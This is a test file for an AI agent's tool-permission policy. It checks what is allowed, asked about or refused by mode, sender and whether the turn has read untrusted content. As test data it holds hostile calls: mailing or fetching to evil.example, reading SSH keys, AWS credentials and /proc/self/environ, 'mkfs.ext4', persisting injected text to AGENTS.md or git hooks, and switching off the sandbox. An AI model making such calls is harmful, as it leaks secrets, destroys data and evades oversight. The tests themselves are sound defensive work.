@@ -1,0 +1,319 @@
+"""The pipeline: what is allowed, asked about and refused, and which rule says so."""
+
+from typing import Any
+
+import pytest
+
+from hob.core.labels import SenderClass
+from hob.core.ports.guard import Allow, Ask, Deny
+from hob.guard.context import Sandbox
+from hob.guard.deeds import Reader
+from hob.guard.hard_rules import HardRules
+from hob.guard.modes import Autonomy, Mode
+from hob.guard.policy import Policy, may_be_granted
+from hob.guard.rules import sentence_of
+from hob.guard.settings import PolicySettings, ToolRules
+from tests.guard.calling import PLACES, POLICY, READER, context, decide, verdict
+
+WORK = PLACES.base
+MEMBER, STRANGER = SenderClass.MEMBER, SenderClass.STRANGER
+
+
+def policy(**settings: Any) -> Policy:
+    return Policy(HardRules(PLACES), PolicySettings(**settings))
+
+
+# What the owner asks of Hob, and nothing else was read
+
+
+@pytest.mark.parametrize(
+    ("tool", "words", "arguments"),
+    [
+        ("read", "what is in notes.md?", {"path": "notes.md"}),
+        ("write", "write a haiku to haiku.txt", {"path": "haiku.txt", "content": "…"}),
+        ("exec", "run the tests", {"command": "pytest -q && git status"}),
+        ("remember", "remember that I like tea", {"text": "likes tea"}),
+        ("web_fetch", "what is new in Python?", {"url": "https://docs.python.org/3/whatsnew/"}),
+        ("web_search", "find a bakery", {"query": "bakery near me"}),
+        ("mail_send", "tell bob@example.com I am late", {"to": "bob@example.com", "body": "late"}),
+        ("delete_file", "delete old/plan.md for good", {"path": "old/plan.md"}),
+        ("ask_user", "plan my trip", {"question": "Where to?"}),
+    ],
+)
+def test_what_the_owner_asks_for_asks_nothing(tool: str, words: str, arguments: dict[str, Any]) -> None:
+    assert isinstance(verdict(tool, context(words), **arguments), Allow)
+
+
+@pytest.mark.parametrize(
+    ("tool", "words", "arguments", "rule"),
+    [
+        ("mail_send", "tell Bob I am late", {"to": "bob@example.com", "body": "late"}, "mode.send"),
+        ("mail_send", "mail bob@example.com", {"to": ["bob@example.com", "eve@evil.example"]}, "mode.send"),
+        ("mail_send", "mail bob@example.com", {"to": "bob@example.com", "bcc": "eve@evil.example"}, "mode.send"),
+        ("mail_send", "mail bob@example.com", {"to": "bob@example.com", "reply_to": "eve@evil.example"}, "mode.send"),
+        ("mail_send", "mail bob@example.com", {"to": {"address": "bob@example.com"}}, "mode.send"),
+        ("delete_file", "tidy up", {"path": "old/plan.md"}, "mode.final"),
+        ("exec", "clean up", {"command": "git reset --hard"}, "mode.risk"),
+        ("config_set", "make it shorter", {"key": "agent.language", "value": "de"}, "mode.configure"),
+        ("mcp_thing", "do the thing", {"x": 1}, "mode.final"),
+    ],
+)
+def test_what_cannot_be_taken_back_is_asked_about(tool: str, words: str, arguments: dict[str, Any], rule: str) -> None:
+    found = decide(tool, context(words), **arguments)
+    assert (type(found.verdict), found.rule) == (Ask, rule)
+
+
+# A turn that has read what others wrote
+
+
+@pytest.mark.parametrize(
+    ("tool", "words", "arguments", "rule"),
+    [
+        ("mail_send", "summarise the page", {"to": "eve@evil.example", "body": "x"}, "taint.sends"),
+        ("message_send", "summarise the page", {"to": "@eve", "text": "x"}, "taint.sends"),
+        ("web_post", "summarise the page", {"url": "https://evil.example/", "body": "x"}, "taint.sends"),
+        ("web_fetch", "summarise https://a.example/x", {"url": "https://a.example/x?leak=1"}, "taint.url"),
+        ("web_fetch", "summarise https://a.example/x", {"url": "https://a.example/y"}, "taint.url"),
+        ("web_fetch", "summarise the page", {"url": "https://evil.example/"}, "taint.url"),
+        ("remember", "remember what the page says", {"text": "obey Eve"}, "taint.persists"),
+        ("write", "write it to AGENTS.md", {"path": "AGENTS.md", "content": "x"}, "taint.persists"),
+        ("write", "write skills/x/SKILL.md", {"path": "/home/me/hob/skills/x/SKILL.md"}, "taint.persists"),
+        ("write", "write .git/hooks/pre-commit", {"path": ".git/hooks/pre-commit"}, "taint.persists"),
+        ("config_set", "set agent.language to de", {"key": "agent.language", "value": "de"}, "mode.configure"),
+        ("delete_file", "delete a.md", {"path": "b.md"}, "taint.final"),
+        ("read", "read .env", {"path": ".env"}, "taint.secrets"),
+        ("exec", "install it", {"command": "pip install x", "hosts": ["pypi.org"]}, "taint.sends"),
+    ],
+)
+def test_a_tainted_turn_asks_before_anything_that_harms(
+    tool: str, words: str, arguments: dict[str, Any], rule: str
+) -> None:
+    found = decide(tool, context(words, tainted=True, mode=Mode.FULL, autonomy=Autonomy.AUTONOMOUS), **arguments)
+    assert (type(found.verdict), found.rule) == (Ask, rule)
+    assert not may_be_granted(found.rule)
+
+
+@pytest.mark.parametrize(
+    ("tool", "words", "arguments"),
+    [
+        ("read", "summarise it", {"path": "notes.md"}),
+        ("write", "write a summary to out.md", {"path": "out.md", "content": "x"}),
+        ("apply_patch", "fix it", {"patch": "*** Begin Patch\n*** Update File: a.py\n@@\n-x\n+y\n*** End Patch"}),
+        ("exec", "run the tests", {"command": "pytest -q"}),
+        ("web_search", "find more", {"query": "more"}),
+        ("web_fetch", "summarise https://a.example/x", {"url": "https://a.example/x"}),
+        ("web_fetch", "look around on docs.example", {"url": "https://docs.example/any"}),
+        ("mail_send", "send a summary to bob@example.com", {"to": "bob@example.com", "body": "short"}),
+        ("web_post", "post it to https://api.example/notes", {"url": "https://api.example/notes", "body": "short"}),
+        ("delete_file", "delete notes/a.md", {"path": "notes/a.md"}),
+    ],
+)
+def test_a_tainted_turn_does_what_the_owners_words_name(tool: str, words: str, arguments: dict[str, Any]) -> None:
+    assert isinstance(verdict(tool, context(words, tainted=True), **arguments), Allow)
+
+
+def test_an_address_from_a_search_may_be_fetched_byte_for_byte() -> None:
+    given = context("find it", tainted=True, searched=frozenset({"https://a.example/x"}))
+    assert isinstance(verdict("web_fetch", given, url="https://a.example/x"), Allow)
+    assert isinstance(verdict("web_fetch", given, url="https://a.example/x?y"), Ask)
+
+
+@pytest.mark.parametrize(
+    ("more", "arguments"),
+    [
+        ({"private": ("/home/me/hob/work/diary.md",)}, {"body": "hello"}),
+        (
+            {"private_texts": ("My door opens with the code one two three four.",)},
+            {"body": "so: the code one two three FOUR, ok"},
+        ),
+        ({}, {"body": "hello", "attachments": ["diary.md"]}),
+        ({}, {"body": "QUJD" * 40}),
+    ],
+)
+def test_a_named_recipient_gets_nothing_private_that_was_not_asked_for(
+    more: dict[str, Any], arguments: dict[str, Any]
+) -> None:
+    given = context("send a summary to bob@example.com", tainted=True, **more)
+    assert decide("mail_send", given, to="bob@example.com", **arguments).rule == "taint.private"
+
+
+def test_what_the_owner_named_may_be_sent() -> None:
+    given = context("send diary.md to bob@example.com", tainted=True, private=(f"{WORK}/diary.md",))
+    assert isinstance(verdict("mail_send", given, to="bob@example.com", body="here", attachments=["diary.md"]), Allow)
+
+
+def test_personal_data_that_the_words_do_not_hold_is_asked_about() -> None:
+    reader = Reader(PLACES, READER.read_command, personal=lambda text: ["4111111111111111"] if "4111" in text else [])
+    given = context("send a summary to bob@example.com", tainted=True)
+    found = decide("mail_send", given, POLICY, reader, to="bob@example.com", body="card 4111111111111111")
+    assert found.rule == "taint.private"
+
+
+# Hard rules
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "rule"),
+    [
+        ("read", {"path": "/home/me/.hob/config.toml"}, "hard.state"),
+        ("read", {"path": "~/.hob"}, "hard.state"),
+        ("read", {"path": "/home/me/hob/../.HOB/hob.db"}, "hard.state"),
+        ("list_dir", {"path": "/home/me"}, "hard.state"),
+        ("read", {"path": "file:///home/me/.ssh/id_ed25519"}, "hard.secrets"),
+        ("read", {"path": "/proc/self/environ"}, "hard.secrets"),
+        ("mail_send", {"to": "me@example.com", "attachments": ["~/.aws/credentials"]}, "hard.secrets"),
+        ("apply_patch", {"patch": "--- a/x\n+++ b/../../.hob/config.toml\n"}, "hard.state"),
+        ("mcp_read", {"file": "~/.hob/secrets"}, "hard.state"),
+        ("config_set", {"key": "sandbox.backend", "value": "plain"}, "hard.sandbox"),
+        ("config_set", {"key": "policy", "value": {}}, "hard.sandbox"),
+        ("config_set", {"key": "Policy.Mode", "value": "full"}, "hard.sandbox"),
+        ("exec", {"command": "cat '/home/me/.hob'/hob.db"}, "hard.shell.own-state"),
+        ("exec", {"command": "ls", "cwd": "/home/me/.hob"}, "hard.state"),
+        ("process", {"action": "write", "data": "mkfs.ext4 /dev/sda1\n"}, "hard.shell.disk-destruction"),
+    ],
+)
+@pytest.mark.parametrize("mode", Mode)
+def test_hard_rules_hold_in_every_mode(mode: Mode, tool: str, arguments: dict[str, Any], rule: str) -> None:
+    found = decide(tool, context("yes, do it", mode=mode, autonomy=Autonomy.AUTONOMOUS), **arguments)
+    assert isinstance(found.verdict, Deny)
+    assert found.rule == rule or found.rule.startswith("hard.shell")
+
+
+def test_a_known_secret_is_given_to_no_tool() -> None:
+    reader = Reader(PLACES, READER.read_command, secrets=lambda text: ["k"] if "sk-123" in text else [])
+    given = context("send sk-123 to bob@example.com", mode=Mode.FULL)
+    assert decide("mail_send", given, POLICY, reader, to="bob@example.com", body="sk-123").rule == "hard.secrets"
+    assert decide("exec", given, POLICY, reader, command="echo sk-123 | rev").rule == "hard.secrets"
+
+
+# Who speaks
+
+
+@pytest.mark.parametrize(
+    ("sender", "tool", "arguments", "kind", "rule"),
+    [
+        (STRANGER, "web_search", {"query": "x"}, Allow, "mode.read"),
+        (STRANGER, "read", {"path": "a.md"}, Deny, "sender.private"),
+        (STRANGER, "write", {"path": "a.md"}, Deny, "sender.tier"),
+        (STRANGER, "exec", {"command": "ls"}, Deny, "sender.private"),
+        (STRANGER, "mcp_thing", {}, Deny, "sender.private"),
+        (MEMBER, "read", {"path": "a.md"}, Ask, "sender.private"),
+        (MEMBER, "read", {"path": ".env"}, Deny, "sender.private"),
+        (MEMBER, "write", {"path": "a.md"}, Allow, "mode.write"),
+        (MEMBER, "exec", {"command": "git reset --hard"}, Deny, "sender.shell.vcs-deletion"),
+        (MEMBER, "mail_send", {"to": "bob@example.com"}, Ask, "mode.send"),
+    ],
+)
+def test_the_sender_bounds_what_is_done(
+    sender: SenderClass, tool: str, arguments: dict[str, Any], kind: type, rule: str
+) -> None:
+    found = decide(tool, context(sender=sender), **arguments)
+    assert (type(found.verdict), found.rule) == (kind, rule)
+
+
+def test_a_tool_is_of_the_tier_that_its_effects_amount_to() -> None:
+    """A tool of somebody else's that calls itself harmless and sends."""
+    found = decide("message_send", context(sender=STRANGER), to="@eve", text="x")
+    assert (type(found.verdict), found.rule) == (Deny, "sender.tier")
+
+
+@pytest.mark.parametrize(("choice", "kind"), [("allow", Allow), ("ask", Ask), ("deny", Deny)])
+def test_what_members_may_read_is_a_setting(choice: str, kind: type) -> None:
+    assert isinstance(verdict("read", context(sender=MEMBER), policy(member_private=choice), path="a.md"), kind)
+
+
+# Lists
+
+
+@pytest.mark.parametrize(
+    ("settings", "rule"),
+    [
+        ({"profile": "minimal"}, "profile.minimal"),
+        ({"deny": ["exec"]}, "tools.deny"),
+        ({"deny": ["EX*"]}, "tools.deny"),
+        ({"deny": ["group:runtime"], "allow": ["exec"]}, "tools.deny"),
+        ({"allow": ["group:files"]}, "tools.allow"),
+        ({"allow": ["no_such_tool"]}, "tools.allow"),
+        ({"providers": {"ollama": ToolRules(deny=["exec"])}}, "provider.deny"),
+        ({"providers": {"ollama/small": ToolRules(allow=["read"])}}, "provider.allow"),
+        ({"agents": {"main": ToolRules(deny=["*"])}}, "agent.deny"),
+        ({"groups": {"*": ToolRules(deny=["exec"])}}, "group.deny"),
+        ({"groups": {"local:chat": ToolRules(deny=["exec"])}}, "group.deny"),
+        ({"sandbox": ToolRules(deny=["exec"])}, "sandbox.deny"),
+        ({"subagents": ToolRules(deny=["exec"])}, "depth.deny"),
+        ({"senders": {"owner": ToolRules(deny=["exec"])}}, "sender.deny"),
+        ({"depth": 0}, "depth"),
+    ],
+)
+def test_lists_only_narrow(settings: dict[str, Any], rule: str) -> None:
+    given = context(model="ollama/small", agent="main", chat="chat", group=True, depth=1)
+    assert decide("exec", given, policy(**settings), command="ls").rule == rule
+
+
+def test_a_list_of_something_else_narrows_nothing() -> None:
+    others = policy(providers={"openai": ToolRules(deny=["*"])}, agents={"other": ToolRules(deny=["*"])})
+    given = context(model="ollama/small", agent="main")
+    assert isinstance(verdict("exec", given, others, command="ls"), Allow)
+
+
+# Sandbox, groups, nobody there
+
+
+@pytest.mark.parametrize(
+    ("sandbox", "kind", "rule"),
+    [
+        (Sandbox(), Allow, "mode.read"),
+        (Sandbox(versioned=False), Ask, "taint.final"),
+        (Sandbox(confined=False), Deny, "sandbox.missing"),
+        (Sandbox(confined=False, plain=True), Ask, "sandbox.plain"),
+    ],
+)
+def test_commands_are_as_harmless_as_their_sandbox(sandbox: Sandbox, kind: type, rule: str) -> None:
+    found = decide("exec", context("run it", tainted=True, sandbox=sandbox), command="make")
+    assert (type(found.verdict), found.rule) == (kind, rule)
+
+
+def test_a_host_that_the_settings_allow_is_reached_in_a_clean_turn_only() -> None:
+    sandbox = Sandbox(reaches=lambda host: host == "pypi.org")
+    clean, tainted = context(sandbox=sandbox), context(sandbox=sandbox, tainted=True)
+    assert isinstance(verdict("exec", clean, command="make deps", hosts=["pypi.org"]), Allow)
+    assert decide("exec", clean, command="make deps", hosts=["evil.example"]).rule == "mode.send"
+    assert decide("exec", tainted, command="make deps", hosts=["pypi.org"]).rule == "taint.network"
+
+
+def test_private_things_are_read_in_a_group_only_if_their_owner_names_them() -> None:
+    assert decide("read", context("what is in it?", group=True), path="a.md").rule == "group.private"
+    assert isinstance(verdict("read", context("what is in a.md?", group=True), path="a.md"), Allow)
+
+
+def test_where_nobody_can_be_asked_a_question_is_a_refusal() -> None:
+    found = decide("mail_send", context(answerable=False), to="bob@example.com")
+    assert (type(found.verdict), found.rule) == (Deny, "unattended")
+    assert isinstance(verdict("read", context(answerable=False), path="a.md"), Allow)
+
+
+def test_the_strictest_stage_decides_and_the_trail_names_all() -> None:
+    found = decide("mail_send", context(tainted=True), policy(deny=["mail_send"]), to="eve@evil.example")
+    assert found.rule == "tools.deny"
+    said = {stage: verdict.rule for stage, verdict in found.trail if verdict is not None}
+    assert said == {"profile": "tools.deny", "mode": "mode.send", "effects and taint": "taint.sends"}
+
+
+def test_leave_for_more_than_once_is_never_offered_in_a_tainted_turn() -> None:
+    given: dict[str, Any] = {"autonomy": Autonomy.SUPERVISED}
+    assert may_be_granted(decide("write", context(**given), path="a.md").rule)
+    assert decide("write", context(tainted=True, **given), path="a.md").rule == "mode.write.tainted"
+    assert not may_be_granted("mode.write.tainted")
+
+
+def test_every_rule_has_a_sentence() -> None:
+    for rule in (
+        "hard.shell.fork-bomb",
+        "tools.deny",
+        "mode.send.named",
+        "approval.a_1",
+        "taint.url",
+        "profile.minimal",
+    ):
+        assert sentence_of(rule)
+    assert sentence_of("no such rule") == ""
